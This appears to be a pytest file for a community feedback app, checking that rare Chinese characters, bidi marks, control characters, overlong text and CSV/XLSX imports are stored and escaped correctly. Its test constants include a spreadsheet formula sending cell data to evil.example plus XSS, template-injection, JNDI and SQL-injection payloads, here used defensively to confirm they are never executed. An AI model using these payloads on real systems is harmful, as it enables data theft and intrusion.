"""What people may write: every character that means something is kept as it stands, what no screen can hold is left out, too much is
refused with the words still there."""

import html
import io
import uuid
from typing import Any

import pytest
from openpyxl import Workbook

from .asking import Reply, api, ask
from .journeys import encode
from .served import Installation
from .visiting import Visitor, forms_of

pytestmark = pytest.mark.slow

RARE = "𠮷野家门口的㐱字牌，𫞩、𬭎两个字也写不出来"
MARKS = "左\u202e右\u202c，阿拉伯\u200fابت\u200f，合字👨‍👩‍👧‍👦，e\u0301 and é"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点这里领奖")'
MARKUP = (
    '<script>alert(1)</script><img src=x onerror="alert(2)">&amp; {{ 7*7 }} {% now "Y" %} ${jndi:ldap://x} \'; DROP TABLE x; --'
)
CONTROL = "灯\x00不\x01亮\x08，\x1b[31m红\x7f的\ufffe，\uffff到此"
TOO_LONG = "太长了" + "灯不亮" * 33_333


def heard(installation: Installation, text: str, **more: Any) -> Reply:
    body = {"client_id": str(uuid.uuid4()), "text": text, "community": installation.settled["community"], **more}
    return api(installation, "wangjie", "POST", "/voices", body)


@pytest.mark.parametrize("words", [RARE, MARKS, FORMULA, MARKUP], ids=["rare", "marks", "formula", "markup"])
def test_kept_verbatim_from_the_api_to_the_page(served: Installation, words: str) -> None:
    reply = heard(served, words, place=words[:50], observed=words)
    assert (reply.status, reply.json["text"], reply.json["place"]) == (201, words, words[:50])
    number, code = reply.json["number"], reply.json["receipt_code"]
    again = api(served, "wangjie", "GET", f"/voices/{number}").json
    assert (again["text"], again["observed"]) == (words, words)
    staff, resident = Visitor(served, "wangjie"), Visitor(served)
    for page in (staff.open(f"/voices/{number}/"), staff.open(f"/inbox/{number}/"), resident.open(f"/receipts/{code}/")):
        assert page.status_code == 200
        assert words in html.unescape(page.text)
        assert "<script>alert" not in page.text
        assert "onerror=" not in page.text.replace("onerror=&quot;", "")


@pytest.mark.parametrize("words", [RARE, MARKS, FORMULA, MARKUP], ids=["rare", "marks", "formula", "markup"])
def test_kept_verbatim_from_page_to_api(served: Installation, words: str) -> None:
    staff = Visitor(served, "wangjie")
    staff.open("/hear/")
    told = staff.send("/hear/", words=words, place=words[:80], name="李大娘")
    assert told.status_code == 302
    number = told.headers["Location"].split("/")[2]
    kept = api(served, "wangjie", "GET", f"/voices/{number}").json
    assert (kept["text"], kept["place"]) == (words, words[:80])


@pytest.mark.parametrize("sought", ["𠮷", "㐱", "𠮷野", "㐱字牌", "𬭎"])
def test_rare_characters_are_found(served: Installation, sought: str) -> None:
    number = heard(served, f"{RARE}{uuid.uuid4()}").json["number"]
    heard(served, "古野家门口，吉野家门口")
    staff = Visitor(served, "wangjie")
    page = staff.open("/voices/", params={"words": sought})
    assert number in page.text
    assert "古野家" not in page.text


def test_control_characters_are_left_out_and_nothing_else(served: Installation) -> None:
    staff = Visitor(served, "wangjie")
    assert heard(served, CONTROL).json["text"] == "灯不亮，[31m红的，到此"
    staff.open("/hear/")
    told = staff.send("/hear/", words=CONTROL.replace("\x00", ""))
    assert told.status_code == 302
    number = told.headers["Location"].split("/")[2]
    assert api(served, "wangjie", "GET", f"/voices/{number}").json["text"] == "灯不亮，[31m红的，到此"


def test_a_null_in_a_form_is_refused_with_the_words_kept(served: Installation) -> None:
    staff = Visitor(served, "wangjie")
    staff.open("/hear/")
    answer = staff.send("/hear/", words="灯不亮\x00，看不见路")
    assert answer.status_code in (302, 422)
    if answer.status_code == 422:
        assert "看不见路" in answer.text


def test_lone_surrogates_are_refused(served: Installation) -> None:
    body = b'{"client_id": "%s", "text": "\\ud800\\udc00 \\ud83d", "community": "%s"}'
    body %= (str(uuid.uuid4()).encode(), served.settled["community"].encode())
    headers = {"Authorization": f"Bearer {served.token('wangjie')}", "Content_Type": "application/json"}
    reply = ask(served, "POST", "/api/v1/voices", body, **headers)
    assert (reply.status, reply.kind) == (422, "application/problem+json")
    raw = ask(served, "POST", "/api/v1/voices", body.replace(b"\\ud83d", b"\xed\xa0\x80"), **headers)
    assert raw.status in (400, 422)


@pytest.mark.parametrize("path", ["/hear/", "/speak/"])
def test_a_hundred_thousand_characters_are_refused_and_kept_in_the_form(served: Installation, path: str) -> None:
    visitor = Visitor(served, "wangjie" if path == "/hear/" else "")
    visitor.open(path)
    answer = visitor.send(path, words=TOO_LONG)
    assert answer.status_code == 422
    assert "太长了：最多20000字，现在有100002字" in answer.text
    assert TOO_LONG in [form.fields.get("words") for form in forms_of(answer.text)]


def test_a_hundred_thousand_characters_from_a_program(served: Installation) -> None:
    reply = heard(served, TOO_LONG)
    assert (reply.status, reply.json["code"], reply.json["field"]) == (422, "too_long", "words")
    reply = heard(served, TOO_LONG * 3)
    assert (reply.status, reply.kind) == (422, "application/problem+json")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_csv_in_any_encoding(served: Installation, encoding: str) -> None:
    number = str(uuid.uuid4())
    text = f"编号,姓名,内容,地址\r\n{number},㐱大娘,{RARE},𠮷祥里3号楼\r\n"
    reply = imported(served, text.encode(encoding), "a.csv")
    assert (reply.json["created"], reply.json["refused"]) == (1, 0)
    found = newest(served)
    assert (found["text"], found["place"], found["speaker"]["name"]) == (RARE, "𠮷祥里3号楼", "㐱大娘")


def test_a_formula_in_a_cell_is_words(served: Installation) -> None:
    """Typed as text it is kept and shown as text; nothing of the program ever evaluates it."""
    book, buffer = Workbook(), io.BytesIO()
    sheet = book.active
    sheet.append(["编号", "内容"])
    sheet.append([str(uuid.uuid4()), "x"])
    sheet["B2"].value, sheet["B2"].data_type = FORMULA, "s"
    book.save(buffer)
    assert imported(served, buffer.getvalue(), "a.xlsx").json["created"] == 1
    assert newest(served)["text"] == FORMULA
    assert (
        imported(served, f'编号,内容\n{uuid.uuid4()},"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'.encode(), "a.csv").status == 201
    )
    found = newest(served)
    assert found["text"] == FORMULA
    assert FORMULA in html.unescape(Visitor(served, "wangjie").open(f"/voices/{found['number']}/").text)


def imported(installation: Installation, content: bytes, name: str) -> Reply:
    body, kind = encode(("community", installation.settled["community"]), content, name)
    headers = {"Content_Type": kind, "Authorization": f"Bearer {installation.token('shuji')}"}
    return ask(installation, "POST", "/api/v1/imports", body, **headers)


def newest(installation: Installation) -> Any:
    return api(installation, "wangjie", "GET", "/voices?limit=1").json["items"][0]
